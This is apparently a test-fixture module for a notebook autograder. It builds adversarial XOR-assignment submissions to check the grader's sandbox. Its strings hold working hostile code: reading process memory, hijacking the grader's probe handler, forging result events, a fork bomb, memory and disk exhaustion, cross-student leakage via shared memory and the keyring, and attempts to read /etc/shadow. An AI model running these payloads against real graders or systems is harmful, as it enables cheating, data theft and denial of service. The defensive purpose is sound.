"""Submissions written by a student who wants points without the work, or to break the grading of others.

Each attack is the XOR template left empty (it solves nothing: it must score 0) plus cells that try
one thing in the student's own process. The same catalogue serves the tests of each class of attack and
the mixed batch that grades them all next to a correct submission.
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
TEMPLATE = ROOT / "assignments" / "xor" / "template.ipynb"
MARKER = "ADA-PRIVATE-7f3c9e21"  # in the correct student's notebook only; no other must ever see it

# --- scavenging: the child's memory, its stack and the modules it was given -------------------------
SCAN_MEMORY = r'''
import ctypes, os, re
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: a switch of uid made /proc/self/mem unreadable
found = {}
with open('/proc/self/maps') as maps:
    regions = []
    for line in maps:
        parts = line.split()
        if 'r' in parts[1] and (len(parts) < 6 or not parts[5].startswith('[v')):
            start, end = (int(x, 16) for x in parts[0].split('-'))
            if end - start < 1 << 30:
                regions.append((start, end))
needles = {"reference": b"h1 = tf.sigmoid(tf.matmul(x, W1) + b1)\n    y = tf.sigmoid(",
           "student": b"ADA-PRIVATE-", "seed": b'"seed": '}
mem = os.open('/proc/self/mem', os.O_RDONLY)
for start, end in regions:
    try:
        data = os.pread(mem, end - start, start)
    except OSError:
        continue
    for name, needle in needles.items():
        for hit in re.finditer(re.escape(needle), data):
            found.setdefault(name, set()).add(data[hit.end():hit.end() + 24])
os.close(mem)
for name, tails in sorted(found.items()):
    print('FOUND', name, sorted(tails)[:20])
source = None
for tail in found.get("reference", ()):
    if tail.startswith(b"tf.matmul(h1, W2) + b2)"):
        source = "stolen"
print('STOLE REFERENCE' if source else 'nothing to steal')
'''

WALK_OBJECTS = r'''
import gc, sys
seen = []
for obj in gc.get_objects():
    if isinstance(obj, dict):
        keys = [k for k in obj if isinstance(k, str)]
        if any(k in ('seed', 'cells', 'probes', 'job', 'nonce') for k in keys):
            seen.append({k: (str(obj[k])[:60]) for k in keys[:12]})
for frame_owner in [sys._getframe()]:
    frame = frame_owner
    while frame is not None:
        for key in ('job', 'request', 'handlers', 'session'):
            if key in frame.f_locals:
                seen.append({key: str(frame.f_locals[key])[:200]})
        frame = frame.f_back
for item in seen[:40]:
    print('OBJECT', item)
'''

# --- forging: answers the parent did not ask for, or answers from a published kit -----------------------
FORGE_EVENTS_AND_EXIT = r'''
import json, os
events = [
    {"event": "observation", "ticket": "0" * 16, "name": "forward_lecture", "ok": True, "value": [[0.0], [1.0], [1.0], [0.0]], "error": None, "seconds": 0},
    {"event": "observation", "job": "x", "name": "parameters", "ok": True, "value": {}, "seconds": 0},
    {"event": "hello", "ticket": "x", "tensorflow_version": "1", "keras_version": "1", "python_version": "1", "import_seconds": 1e400},
    {"event": ["x"]},
]
for fd in range(3, 64):
    for event in events:
        try:
            os.write(fd, (json.dumps(event) + "\n").encode())
        except (OSError, ValueError):
            pass
os._exit(0)
'''


def replace_probe_runner(published: dict) -> str:
    """Answer every probe request with the reference's published observations (from a student kit)."""
    return r'''
import json, sys
PUBLISHED = json.loads(%r)
frame = sys._getframe()
while frame is not None and 'handlers' not in frame.f_locals:
    frame = frame.f_back
handlers = frame.f_locals['handlers'] if frame is not None else None
child = sys.modules.get('child')
def forged(request):
    name = request['name']
    answer = PUBLISHED.get(name)
    if answer is None:
        answer = {"ok": False, "value": None, "error": {"type": "X", "message": "", "traceback": ""}}
    session.channel.emit(event='observation', ticket=request['ticket'], name=name, seconds=0.0,
                         ok=answer['ok'], value=answer['value'], error=answer.get('error'))
session = getattr(handlers['probe'], '__self__', None) if handlers else None
if handlers is not None and session is not None:
    handlers['probe'] = forged
    print('probe runner replaced')
''' % json.dumps(published)


LEAK_SEED = r'''
import gc
for obj in gc.get_objects():
    if isinstance(obj, dict) and 'seed' in obj:
        print('SEED', obj.get('seed'))
raise RuntimeError("seed leak attempt")
'''

FORGE_TIMER = r'''
import json, os, time
started = time.time()
while True:  # a forged "cell done" every half second, on every descriptor, never stopping
    for fd in range(3, 32):
        try:
            os.write(fd, (json.dumps({"event": "cell", "ticket": "f" * 16, "index": 4, "status": "ok", "error": None,
                                      "output": "", "magics": [], "seconds": 0}) + "\n").encode())
        except OSError:
            pass
    time.sleep(0.5)
'''

# --- breaking everyone's reports ----------------------------------------------------------------------
BREAK_TEXT = r'''
import os
print("\ud800 lone surrogate", "NUL:\x00 ESC:\x1b[31mred\x1b[0m BEL:\x07 bidi:\u202e")
os.write(1, b"raw bytes \xff\xfe\x00\x1b[2J\n")
raise ValueError("\x00\x1b]0;pwned\x07\ud800 message")
'''

HUGE_HISTORY = r'''
class History:
    history = {"loss": [1e308, -1e308, float("nan"), 1e-320]}
def build_model():  # not the lecture's network (relu): it must earn nothing
    return tf.keras.Sequential([tf.keras.layers.Dense(2, activation="relu"), tf.keras.layers.Dense(1, activation="relu")])
def train_model(model, epochs):
    return History()
'''

DEEP_TREE = r'''
import os
here = os.getcwd()
for i in range(2500):
    os.mkdir('d')
    os.chdir('d')
os.chdir(here)
print('deep tree made')
'''

MANY_CELLS = ["raise ValueError('x' * 2000)"] * 9000

# --- limits ------------------------------------------------------------------------------------------------
FORK_BOMB = r'''
import os, time
count = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        count += 1
except OSError as exc:
    print('forks stopped after', count, type(exc).__name__)
'''

MEMORY_ACROSS_PROCESSES = r'''
import subprocess, sys, time
code = "import numpy as np, time; a = np.ones(%d // 8); a[::512] = 2; time.sleep(30)"
procs = [subprocess.Popen([sys.executable, '-c', code % SHARE]) for _ in range(COUNT)]
time.sleep(12)
print('returncodes', [p.poll() for p in procs])
'''

FILL_DISKS = r'''
import os
for where in ('big', '/tmp/big', '/dev/shm/big', '/dev/big'):
    written = 0
    try:
        with open(where, 'wb') as handle:
            for _ in range(4096):
                handle.write(b'x' * (1 << 20))
                written += 1
    except OSError as exc:
        print(where, 'stopped after', written, 'MiB', type(exc).__name__)
    else:
        print(where, 'FILLED', written, 'MiB')
'''

# --- other students: what one leaves, the next looks for ----------------------------------------------------
LEAVE_TRACES = r'''
import ctypes, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
for where in ('trace.txt', '/tmp/trace.txt', '/dev/shm/trace.txt'):
    try:
        open(where, 'w').write('ADA-PRIVATE-trace')
    except OSError:
        pass
shmid = libc.shmget(4242, 1 << 20, 0o1666)
print('shmget', shmid)
if shmid >= 0:
    libc.shmat.restype = ctypes.c_void_p
    at = libc.shmat(shmid, None, 0)
    ctypes.memmove(at, b'ADA-PRIVATE-shm', 15)
key = libc.syscall(248, b"user", b"trace", b"ADA-PRIVATE-key", 15, -4)  # add_key to the user keyring
print('add_key', key)
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)'], start_new_session=True)
'''

LOOK_FOR_TRACES = r'''
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
seen = []
for pattern in ('*', '/tmp/*', '/dev/shm/*', '/dev/*'):
    for path in glob.glob(pattern):
        try:
            if os.path.isfile(path) and 'ADA-PRIVATE' in open(path).read(100):
                seen.append(path)
        except (OSError, UnicodeDecodeError):
            pass
shmid = libc.shmget(4242, 0, 0)
print('shm segment of the previous student', shmid)
buf = ctypes.create_string_buffer(64)
print('keyring read', libc.syscall(250, 11, -4, buf, 64), buf.value)  # KEYCTL_READ on the user keyring
sleepers = 0
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            sleepers += 'time.sleep(300)' in open(f'/proc/{pid}/cmdline').read()
        except OSError:
            pass
print('traces', seen, 'sleepers', sleepers)
'''

PRIVILEGE = r'''
import os
status = dict(line.split(':', 1) for line in open('/proc/self/status'))
print('uid', status['Uid'].split(), 'CapEff', status['CapEff'].strip(), 'NoNewPrivs', status['NoNewPrivs'].strip())
for secret in ('/etc/shadow', '/root/.bash_history', '/proc/1/environ'):
    try:
        open(secret, 'rb').read(10)
        print('READ', secret)
    except OSError as exc:
        print('denied', secret, type(exc).__name__)
'''


# --- building submissions -------------------------------------------------------------------------------
def template_cells() -> list[str]:
    notebook = nbformat.read(TEMPLATE, as_version=4)
    return [cell.source for cell in notebook.cells if cell.cell_type == "code"]


def notebook_with(cells: list[str], tags_first_parameters: bool = True) -> nbformat.NotebookNode:
    template = nbformat.read(TEMPLATE, as_version=4)
    notebook = nbformat.v4.new_notebook(metadata=template.metadata)
    for cell in template.cells:
        notebook.cells.append(cell)
    for source in cells:
        notebook.cells.append(nbformat.v4.new_code_cell(source))
    return notebook


def write_submission(root: Path, student: str, cells: list[str], assignment: str = "xor") -> Path:
    folder = root / student
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{assignment}.ipynb"
    nbformat.write(notebook_with(cells), path)
    return path


def correct_xor(root: Path, student: str = "ada") -> Path:
    """The reference solution, with a private marker no other submission may ever see."""
    folder = root / student
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "xor.py"
    path.write_text((ROOT / "reference" / "xor.py").read_text() + f"\n# {MARKER}\n")
    return path
